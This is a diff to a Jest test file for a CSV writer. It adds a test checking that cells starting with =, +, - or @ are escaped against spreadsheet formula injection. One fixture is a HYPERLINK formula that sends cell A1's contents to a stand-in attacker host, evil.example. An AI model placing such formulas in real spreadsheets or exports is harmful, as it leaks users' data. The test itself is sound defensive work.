@@ -1,3 +1,4 @@
+import { parse as parseCsv } from 'papaparse';
 import { csvText } from './csv-text';
 
 describe('CSV text', () => {
@@ -14,5 +15,25 @@ describe('CSV text', () => {
     expect(csvText([['a,b', 'say "hi"', 'two\nlines', null, 1.5]])).toBe(
       '\uFEFF"a,b","say ""hi""","two\nlines",,1.5\r\n',
     );
+  });
+
+  it('writes text a spreadsheet would run as data, numbers as numbers, read back by a real CSV parser', () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';
+    const csv = csvText([
+      ['الاسم', 'الهاتف', 'الرصيد'],
+      [hyperlink, '+961 3 123456', -12.5],
+      ['-عميل', '@x', 40],
+    ]);
+    const { data, errors } = parseCsv<(string | number)[]>(csv.replace(/^\uFEFF/, ''), {
+      dynamicTyping: true,
+      skipEmptyLines: true,
+    });
+    expect(errors).toEqual([]);
+    expect(data).toEqual([
+      ['الاسم', 'الهاتف', 'الرصيد'],
+      [`'${hyperlink}`, "'+961 3 123456", -12.5],
+      ["'-عميل", "'@x", 40],
+    ]);
+    for (const cell of data.flat()) if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 });
